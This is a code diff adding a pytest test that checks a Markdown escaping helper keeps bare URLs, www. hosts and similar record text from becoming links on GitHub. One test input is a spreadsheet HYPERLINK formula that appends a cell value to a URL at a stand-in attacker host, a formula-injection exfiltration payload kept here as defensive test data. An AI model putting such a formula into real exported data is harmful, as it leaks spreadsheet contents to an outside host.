@@ -327,3 +327,22 @@ def test_tables_escape_every_cell(cells, counts):
             assert not value.startswith(CSV_FORMULA_START)
     assert rows[0][2] == "count" and [int(r[2]) for r in rows[1:]] == counts[:n]
     assert [r[0] for r in rows[1:]] == [csv_cell(c.replace("\r\n", "\n").replace("\r", "\n")) for c in cells[:n]]
+
+
+@pytest.mark.parametrize("text", [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")', "see https://evil.example/x now", "HTTP://EVIL.EXAMPLE",
+    "ftp://files.example/x", "visit www.evil.example today", "(www.evil.example)", "a|https://x.example|b",
+])
+def test_bare_urls_in_record_text_stay_text_on_github(text):
+    """GitHub renders Markdown with cmark-gfm, which links bare URLs and www. hosts (CommonMark
+    parsers do not): text from a record must not become a link there either."""
+    import cmarkgfm
+
+    from masrl.render.escape import md_text
+
+    for where in (md_text(text), f"| a | {md_text(text)} |\n|---|---|\n| {md_text(text)} | x |"):
+        html = cmarkgfm.github_flavored_markdown_to_html(where)
+        assert "<a " not in html, (where, html)
+    body = cmarkgfm.github_flavored_markdown_to_html(md_text(text))
+    shown_text = "".join(html5lib.parse(body, namespaceHTMLElements=False).find("body").itertext())
+    assert shown_text.strip() == text
